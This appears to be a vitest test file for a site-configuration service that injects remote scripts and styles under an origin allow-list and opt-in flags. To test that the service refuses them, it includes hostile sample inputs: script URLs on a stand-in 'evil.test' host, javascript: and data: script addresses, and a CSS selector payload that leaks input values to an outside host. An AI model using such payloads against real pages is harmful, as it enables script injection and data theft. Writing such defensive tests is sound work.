import { describe, expect, it, vi } from 'vitest';
import { createTestKit, withFeatures } from '../../../composition/testing';
import { siteConfig } from '../../../composition/features/index';
import { createFakeHttp, FakeClock, FakeDomInjection, FakeScriptLoader } from '../../../adapters/fake/index';
import { SiteConfigService } from '../../../domain/site-config/site-config.service';
import type { SiteConfigFailure, SiteConfigServiceOptions } from '../../../domain/site-config/site-config.types';

const ORIGIN = 'https://content.test';
const CDN = 'https://cdn.test';

function setup(actions: unknown[], init: Partial<SiteConfigServiceOptions> = {}, extraAds: unknown[] = []) {
  const { http, fetchMock } = createFakeHttp();
  fetchMock.route('path:/site/api/v2/picture/search', {
    status: 200,
    body: { code: 0, message: 'success', data: { advertisements: [{ id: 1, title: 'setting', content: JSON.stringify(actions) }, ...extraAds], count: 1, page_index: 1, page_size: 99 } },
  });
  const scriptLoader = new FakeScriptLoader(new FakeClock());
  const dom = new FakeDomInjection();
  const service = new SiteConfigService({ http, scriptLoader, dom }, { contentOrigin: ORIGIN, pid: 'home', scriptOrigins: [CDN], nonce: 'n0nce', ...init });
  const failures: SiteConfigFailure[] = [];
  service.failures$.subscribe((failure) => failures.push(failure));
  return { service, fetchMock, scriptLoader, dom, failures };
}

describe('SiteConfigService (SPEC §3, §7 group control)', () => {
  it('calls the picture search with app_id 4986, website 5000, channel 10, zh-CN, page_size 99, page_index 1', async () => {
    const { service, fetchMock } = setup([], { page: 'index', block: 'top' });
    await service.apply();
    const [call] = fetchMock.callHistory.calls();
    const url = new URL(call!.url);
    expect(call!.options.method?.toUpperCase()).toBe('GET');
    expect(`${url.origin}${url.pathname}`).toBe('https://content.test/site/api/v2/picture/search');
    expect(Object.fromEntries(url.searchParams)).toEqual({
      app_id: '4986', website: '5000', channel: '10', language: 'zh-CN', page_size: '99', page_index: '1', page: 'index', block: 'top',
    });
  });

  it('loads an allow-listed script with the nonce, injects a style with the nonce, for matching pids', async () => {
    const { service, scriptLoader, dom } = setup(
      [
        { action: 'inject-script', content: `${CDN}/a.js`, pids: ['home'] },
        { action: 'inject-style', content: '.x{color:red}' },
        { action: 'inject-style', content: '.other{}', pids: ['about'] },
      ],
      { allowInjectStyle: true },
    );
    scriptLoader.succeed(`${CDN}/a.js`);
    const outcome = await service.apply();
    expect(outcome.failures).toEqual([]);
    expect(outcome.applied.map((action) => action.action).sort()).toEqual(['inject-script', 'inject-style']);
    expect(scriptLoader.loads).toEqual([{ url: `${CDN}/a.js`, attrs: { nonce: 'n0nce' } }]);
    expect(dom.records).toEqual([{ kind: 'style', text: '.x{color:red}', attrs: { nonce: 'n0nce' } }]);
  });

  it('refuses scripts from origins not on the allow-list, and javascript: addresses', async () => {
    const { service, scriptLoader, failures } = setup([
      { action: 'inject-script', content: 'https://evil.test/a.js' },
      { action: 'inject-script', content: 'javascript:alert(1)' },
      { action: 'inject-script', content: 'https://cdn.test.evil.test/a.js' },
    ]);
    const outcome = await service.apply();
    expect(outcome.applied).toEqual([]);
    expect(failures.map((failure) => failure.reason)).toEqual(['origin-not-allowed', 'origin-not-allowed', 'origin-not-allowed']);
    expect(scriptLoader.loads).toEqual([]);
  });

  it('refuses plain http and data: script addresses, even on an allowed host', async () => {
    const { service, scriptLoader, failures } = setup([
      { action: 'inject-script', content: 'http://cdn.test/a.js' },
      { action: 'inject-script', content: 'data:text/javascript,alert(1)' },
    ]);
    const outcome = await service.apply();
    expect(outcome.applied).toEqual([]);
    expect(failures.map((failure) => failure.reason)).toEqual(['origin-not-allowed', 'origin-not-allowed']);
    expect(scriptLoader.loads).toEqual([]);
  });

  it('injects styles only when the page opts in', async () => {
    const off = setup([{ action: 'inject-style', content: 'input[value^="1"]{background:url(https://evil.test/1)}' }]);
    const refused = await off.service.apply();
    expect(off.dom.records).toEqual([]);
    expect(refused.applied).toEqual([]);
    expect(off.failures.map((failure) => failure.reason)).toEqual(['inject-style-disabled']);
    const on = setup([{ action: 'inject-style', content: '.x{}' }], { allowInjectStyle: true });
    await on.service.apply();
    expect(on.dom.records).toEqual([{ kind: 'style', text: '.x{}', attrs: { nonce: 'n0nce' } }]);
  });

  it('runs run-script only when the page opts in', async () => {
    const off = setup([{ action: 'run-script', content: 'window.x = 1' }]);
    await off.service.apply();
    expect(off.dom.records).toEqual([]);
    expect(off.failures.map((failure) => failure.reason)).toEqual(['run-script-disabled']);
    const on = setup([{ action: 'run-script', content: 'window.x = 1' }], { allowRunScript: true });
    await on.service.apply();
    expect(on.dom.records).toEqual([{ kind: 'script', text: 'window.x = 1', attrs: { nonce: 'n0nce' } }]);
  });

  it('applies each action once across calls', async () => {
    const { service, dom } = setup([{ action: 'inject-style', content: '.x{}' }], { allowInjectStyle: true });
    await service.apply();
    const second = await service.apply();
    expect(second.applied).toEqual([]);
    expect(dom.records).toHaveLength(1);
  });

  it('reports failures and never throws: fetch failure, bad JSON, unknown action, a failed load, a DOM error', async () => {
    const { http, fetchMock } = createFakeHttp();
    fetchMock.route('path:/site/api/v2/picture/search', { throws: new TypeError('Failed to fetch') });
    const broken = new SiteConfigService({ http, scriptLoader: new FakeScriptLoader(), dom: new FakeDomInjection() }, { contentOrigin: ORIGIN });
    await expect(broken.apply()).resolves.toMatchObject({ applied: [], failures: [{ reason: 'fetch-failed' }] });

    const { service, scriptLoader, dom, failures } = setup(
      [{ action: 'eval', content: 'x' }, { action: 'inject-script', content: `${CDN}/b.js` }, { action: 'inject-style', content: '.y{}' }],
      { allowInjectStyle: true },
      [{ title: 'setting', content: '{not json' }, { title: 'banner', image_url: 'https://img.test/1.png' }],
    );
    scriptLoader.fail(`${CDN}/b.js`);
    dom.failWith = new Error('no head');
    const outcome = await service.apply();
    expect(outcome.applied).toEqual([]);
    expect(failures.map((failure) => failure.reason).sort()).toEqual(['apply-failed', 'apply-failed', 'malformed-config', 'unknown-action']);
  });

  it('needs an http(s) content origin and origin-only allow-list entries', async () => {
    const { http } = createFakeHttp();
    const build = (options: SiteConfigServiceOptions) => () => new SiteConfigService({ http, scriptLoader: new FakeScriptLoader(), dom: new FakeDomInjection() }, options);
    expect(build({ contentOrigin: ORIGIN, scriptOrigins: ['https://cdn.test/path/'] })).toThrowError(expect.objectContaining({ code: 'INVALID_ARGUMENT' }));
    expect(build({ contentOrigin: ORIGIN, scriptOrigins: ['http://cdn.test'] })).toThrowError(
      expect.objectContaining({ code: 'INVALID_ARGUMENT', message: 'siteConfig scriptOrigins needs https origins like https://cdn.example.com, got http://cdn.test' }),
    );
  });

  it('allows a plain-http origin on localhost, for a development server', async () => {
    const { service, scriptLoader } = setup([{ action: 'inject-script', content: 'http://127.0.0.1:5173/dev.js' }], { scriptOrigins: ['http://127.0.0.1:5173'] });
    scriptLoader.succeed('http://127.0.0.1:5173/dev.js');
    expect((await service.apply()).applied).toHaveLength(1);
  });
});

describe('kit.siteConfig', () => {
  it('applies on start with contentOrigin defaulting to apiOrigin', async () => {
    const kit = createTestKit({ features: withFeatures(siteConfig({ pid: 'home', allowInjectStyle: true })), apiOrigin: 'https://api.test', routes: (fetchMock) =>
        fetchMock.route('path:/site/api/v2/picture/search', {
          status: 200,
          body: { code: 0, data: { advertisements: [{ title: 'setting', content: '[{"action":"inject-style","content":"body{}","pids":["home"]}]' }] } },
        }) });
    expect(kit.fetchMock.callHistory.calls()).toHaveLength(0);
    await kit.start();
    await vi.waitFor(() => expect(kit.domInjection.records).toEqual([{ kind: 'style', text: 'body{}', attrs: {} }]));
    expect(kit.fetchMock.callHistory.calls()[0]!.url).toMatch(/^https:\/\/api\.test\/site\/api\/v2\/picture\/search\?/);
  });
});
